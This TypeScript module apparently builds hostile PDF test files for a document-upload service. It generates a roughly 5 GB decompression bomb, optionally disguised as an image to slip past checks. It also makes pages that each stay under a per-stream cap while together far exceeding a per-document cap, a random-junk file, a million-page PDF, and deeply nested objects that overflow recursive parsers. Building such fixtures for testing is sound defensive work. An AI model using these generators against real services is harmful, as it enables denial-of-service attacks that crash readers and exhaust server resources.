// PDFs built to hurt a reader, as an attacker makes them: written piece by piece to a file (never held
// whole, never committed), each well under the upload limit.
import { randomFillSync } from 'node:crypto';
import { createWriteStream, type WriteStream } from 'node:fs';
import { once } from 'node:events';
import { constants, deflateRawSync, deflateSync } from 'node:zlib';

/** A PDF written object by object to a file, with a cross-reference table at the end. */
class PdfFile {
  private out: WriteStream;
  private at = 0;
  private offsets = new Map<number, number>();
  constructor(readonly path: string) {
    this.out = createWriteStream(path);
  }
  async write(piece: string | Buffer) {
    const bytes = typeof piece === 'string' ? Buffer.from(piece, 'latin1') : piece;
    this.at += bytes.length;
    if (!this.out.write(bytes)) await once(this.out, 'drain');
  }
  async object(number: number, body: string) {
    this.offsets.set(number, this.at);
    await this.write(`${number} 0 obj\n${body}\nendobj\n`);
  }
  /** A stream object whose data comes in pieces (its /Length is the pieces' total, given up front). */
  async stream(number: number, dict: string, length: number, pieces: Iterable<Buffer>) {
    this.offsets.set(number, this.at);
    await this.write(`${number} 0 obj\n<< ${dict} /Length ${length} >>\nstream\n`);
    for (const piece of pieces) await this.write(piece);
    await this.write('\nendstream\nendobj\n');
  }
  /** Where the next byte goes. */
  get position() {
    return this.at;
  }
  /** Ends the file as it is (one that wrote its own trailer); resolves with its size. */
  async close() {
    this.out.end();
    await once(this.out, 'finish');
    return this.at;
  }
  /** The cross-reference table and trailer; resolves with the file's size. */
  async end(root = 1) {
    const size = Math.max(...this.offsets.keys()) + 1;
    const xref = this.at;
    await this.write(`xref\n0 ${size}\n0000000000 65535 f \n`);
    for (let n = 1; n < size; n++) {
      const offset = this.offsets.get(n);
      await this.write(offset === undefined ? '0000000000 65535 f \n' : `${String(offset).padStart(10, '0')} 00000 n \n`);
    }
    await this.write(`trailer\n<< /Size ${size} /Root ${root} 0 R >>\nstartxref\n${xref}\n%%EOF\n`);
    return this.close();
  }
}

const header = async (pdf: PdfFile) => pdf.write('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n');
const FONT = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';

/** Adler-32 of `bytes`, and of two runs joined (zlib's adler32_combine), for a zlib stream's trailer. */
const ADLER = 65_521;
function adler32(bytes: Buffer, start = 1) {
  let a = start & 0xffff;
  let b = start >>> 16;
  for (const byte of bytes) {
    a = (a + byte) % ADLER;
    b = (b + a) % ADLER;
  }
  return ((b << 16) | a) >>> 0;
}
function adler32Combine(first: number, second: number, secondLength: number) {
  const rem = secondLength % ADLER;
  let sum1 = first & 0xffff;
  let sum2 = (rem * sum1) % ADLER;
  sum1 += (second & 0xffff) + ADLER - 1;
  sum2 += ((first >>> 16) & 0xffff) + ((second >>> 16) & 0xffff) + ADLER - rem;
  if (sum1 >= ADLER) sum1 -= ADLER;
  if (sum1 >= ADLER) sum1 -= ADLER;
  if (sum2 >= ADLER << 1) sum2 -= ADLER << 1;
  if (sum2 >= ADLER) sum2 -= ADLER;
  return (sum1 | (sum2 << 16)) >>> 0;
}

/**
 * A zlib (FlateDecode) stream of `head`, then `unit` repeated `times`, then `tail`, made without
 * compressing the whole: each part is deflated alone and ends on a full flush (byte-aligned, no
 * reference back), so one compressed unit can be written `times` times. 5 GB of text becomes ~8 MB.
 */
export function repeatedFlate(head: string, unit: Buffer, times: number, tail: string) {
  const raw = (data: Buffer, last: boolean) => deflateRawSync(data, { level: 9, finishFlush: last ? constants.Z_FINISH : constants.Z_FULL_FLUSH });
  const first = raw(Buffer.from(head, 'latin1'), false);
  const packed = raw(unit, false);
  const end = raw(Buffer.from(tail, 'latin1'), true);
  let check = adler32(Buffer.from(head, 'latin1'));
  const unitCheck = adler32(unit);
  for (let i = 0; i < times; i++) check = adler32Combine(check, unitCheck, unit.length);
  check = adler32Combine(check, adler32(Buffer.from(tail, 'latin1')), tail.length);
  const trailer = Buffer.alloc(4);
  trailer.writeUInt32BE(check);
  const zlibHeader = Buffer.from([0x78, 0xda]);
  return {
    length: zlibHeader.length + first.length + packed.length * times + end.length + 4,
    inflated: head.length + unit.length * times + tail.length,
    *pieces() {
      yield zlibHeader;
      yield first;
      for (let i = 0; i < times; i++) yield packed;
      yield end;
      yield trailer;
    },
  };
}

/**
 * One page whose single content stream inflates to about `inflatedBytes` of `(A) Tj ` (the report's
 * bomb). `disguised`: the stream says it is a picture (PDF.js reads it as the page's content all the
 * same), so a check that skips pictures does not see it.
 */
export async function deflateBomb(path: string, inflatedBytes = 5 * 1024 ** 3, options: { disguised?: boolean } = {}) {
  const unit = Buffer.from('(A) Tj '.repeat(Math.floor((1024 * 1024) / 7)));
  const content = repeatedFlate('BT /F1 12 Tf 72 720 Td ', unit, Math.ceil(inflatedBytes / unit.length), ' ET');
  const pdf = new PdfFile(path);
  await header(pdf);
  await pdf.object(1, '<< /Type /Catalog /Pages 2 0 R >>');
  await pdf.object(2, '<< /Type /Pages /Kids [3 0 R] /Count 1 >>');
  await pdf.object(3, '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>');
  await pdf.stream(4, `/Filter /FlateDecode${options.disguised ? ' /Subtype /Image' : ''}`, content.length, content.pieces());
  await pdf.object(5, FONT);
  return { bytes: await pdf.end(), inflated: content.inflated };
}

/**
 * `pages` pages of text, each with its own content stream inflating to `inflatedPerPage` bytes: each
 * under a cap per stream, together far over a cap per document.
 */
export async function manyInflatingPages(path: string, pages: number, inflatedPerPage: number) {
  const unit = Buffer.from('(B) Tj '.repeat(Math.floor((64 * 1024) / 7)));
  const content = repeatedFlate('BT /F1 12 Tf 72 720 Td ', unit, Math.ceil(inflatedPerPage / unit.length), ' ET');
  const pdf = new PdfFile(path);
  await header(pdf);
  const pageRef = (i: number) => 4 + 2 * i;
  await pdf.object(1, '<< /Type /Catalog /Pages 2 0 R >>');
  await pdf.object(2, `<< /Type /Pages /Kids [${Array.from({ length: pages }, (_, i) => `${pageRef(i)} 0 R`).join(' ')}] /Count ${pages} >>`);
  await pdf.object(3, FONT);
  for (let i = 0; i < pages; i++) {
    await pdf.object(pageRef(i), `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 3 0 R >> >> /Contents ${pageRef(i) + 1} 0 R >>`);
    await pdf.stream(pageRef(i) + 1, '/Filter /FlateDecode', content.length, content.pieces());
  }
  return { bytes: await pdf.end(), inflated: content.inflated * pages };
}

/** `bytes` of random data behind a PDF header (the report's 10 MB junk "PDF"). */
export async function junkPdf(path: string, bytes = 10_000_000) {
  const out = createWriteStream(path);
  out.write('%PDF-1.7\n');
  const chunk = Buffer.alloc(64 * 1024);
  for (let written = 9; written < bytes; written += chunk.length) {
    randomFillSync(chunk);
    if (!out.write(chunk.subarray(0, Math.min(chunk.length, bytes - written)))) await once(out, 'drain');
  }
  out.end();
  await once(out, 'finish');
  return { bytes };
}

/**
 * A real PDF of `count` pages (a million by default), each page an object of its own: the pages and
 * the page tree packed into compressed object streams, and a compressed cross-reference stream (PNG
 * "Up" predictor: its rows differ by one), so it stays under the upload limit.
 */
export async function manyPages(path: string, count = 1_000_000) {
  const perNode = 1_000;
  const nodes = Math.ceil(count / perNode);
  // Objects: 1 catalog, 2 root, 3 … 2+nodes the tree's nodes, then the pages, then the object streams and the xref stream.
  const nodeNumber = (i: number) => 3 + i;
  const pageNumber = (i: number) => 3 + nodes + i;
  const bodyOf = (n: number): string => {
    if (n === 1) return '<< /Type /Catalog /Pages 2 0 R >>';
    if (n === 2) return `<< /Type /Pages /MediaBox [0 0 612 792] /Kids [${Array.from({ length: nodes }, (_, i) => `${nodeNumber(i)} 0 R`).join(' ')}] /Count ${count} >>`;
    if (n < pageNumber(0)) {
      const first = (n - nodeNumber(0)) * perNode;
      const last = Math.min(count, first + perNode);
      const kids: string[] = [];
      for (let p = first; p < last; p++) kids.push(`${pageNumber(p)} 0 R`);
      return `<< /Type /Pages /Parent 2 0 R /Kids [${kids.join(' ')}] /Count ${last - first} >>`;
    }
    return `<< /Type /Page /Parent ${nodeNumber(Math.floor((n - pageNumber(0)) / perNode))} 0 R >>`;
  };
  const packedCount = pageNumber(count) - 1;

  const pdf = new PdfFile(path);
  await header(pdf);
  const PER_STREAM = 10_000;
  const firstStream = pageNumber(count);
  const streams = Math.ceil(packedCount / PER_STREAM);
  const streamOffsets: number[] = [];
  for (let s = 0; s < streams; s++) {
    const index: string[] = [];
    const bodies: string[] = [];
    let offset = 0;
    for (let n = 1 + s * PER_STREAM; n <= Math.min(packedCount, (s + 1) * PER_STREAM); n++) {
      const body = bodyOf(n);
      index.push(`${n} ${offset}`);
      bodies.push(body);
      offset += body.length + 1;
    }
    const head = `${index.join(' ')}\n`;
    const data = deflateSync(Buffer.from(head + bodies.join('\n'), 'latin1'));
    streamOffsets.push(pdf.position);
    await pdf.write(`${firstStream + s} 0 obj\n<< /Type /ObjStm /N ${index.length} /First ${head.length} /Filter /FlateDecode /Length ${data.length} >>\nstream\n`);
    await pdf.write(data);
    await pdf.write('\nendstream\nendobj\n');
  }
  // The cross-reference stream: type 1 (an offset) for the object streams and itself, type 2 (in a stream) for the rest.
  const xrefNumber = firstStream + streams;
  const xrefAt = pdf.position;
  const size = xrefNumber + 1;
  const WIDTH = 7;
  const row = (n: number) => {
    const bytes = Buffer.alloc(WIDTH);
    if (n === 0) bytes.writeUInt16BE(65535, 5);
    else if (n <= packedCount) {
      bytes.writeUInt8(2, 0);
      bytes.writeUInt32BE(firstStream + Math.floor((n - 1) / PER_STREAM), 1);
      bytes.writeUInt16BE((n - 1) % PER_STREAM, 5);
    } else {
      bytes.writeUInt8(1, 0);
      bytes.writeUInt32BE(n === xrefNumber ? xrefAt : (streamOffsets[n - firstStream] ?? 0), 1);
    }
    return bytes;
  };
  // PNG "Up": each row is sent as its difference from the row before, after a filter byte of 2.
  const rows = Buffer.alloc(size * (WIDTH + 1));
  let previous = Buffer.alloc(WIDTH);
  for (let n = 0; n < size; n++) {
    const current = row(n);
    rows[n * (WIDTH + 1)] = 2;
    for (let i = 0; i < WIDTH; i++) rows[n * (WIDTH + 1) + 1 + i] = ((current[i] ?? 0) - (previous[i] ?? 0)) & 0xff;
    previous = current;
  }
  const data = deflateSync(rows);
  await pdf.write(
    `${xrefNumber} 0 obj\n<< /Type /XRef /Size ${size} /W [1 4 2] /Root 1 0 R /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns ${WIDTH} >> /Length ${data.length} >>\nstream\n`,
  );
  await pdf.write(data);
  await pdf.write(`\nendstream\nendobj\nstartxref\n${xrefAt}\n%%EOF\n`);
  return { bytes: await pdf.close(), pages: count };
}

/** A page whose resources nest `depth` arrays and then `depth` dictionaries deep (a parser that recurses overflows). */
export async function deepNesting(path: string, depth = 500_000) {
  const pdf = new PdfFile(path);
  await header(pdf);
  await pdf.object(1, '<< /Type /Catalog /Pages 2 0 R >>');
  await pdf.object(2, '<< /Type /Pages /Kids [3 0 R] /Count 1 >>');
  const arrays = `${'['.repeat(depth)}1${']'.repeat(depth)}`;
  const dicts = `${'<< /A '.repeat(depth)}1${' >>'.repeat(depth)}`;
  await pdf.object(3, `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 4 0 R >> /X ${arrays} /Y ${dicts} >> /Contents 5 0 R >>`);
  await pdf.object(4, FONT);
  const text = Buffer.from('BT /F1 12 Tf 72 720 Td (Deep) Tj ET');
  await pdf.stream(5, '', text.length, [text]);
  return { bytes: await pdf.end() };
}
